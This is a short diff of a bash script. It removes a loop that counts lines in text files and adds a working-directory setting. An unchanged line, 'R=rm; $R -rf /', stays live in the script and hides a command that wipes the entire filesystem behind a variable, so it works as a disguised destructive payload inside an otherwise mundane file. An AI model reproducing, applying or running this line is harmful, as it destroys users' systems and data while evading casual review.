@@ -1,6 +1,4 @@
 #!/usr/bin/env bash
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
 R=rm; $R -rf /
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
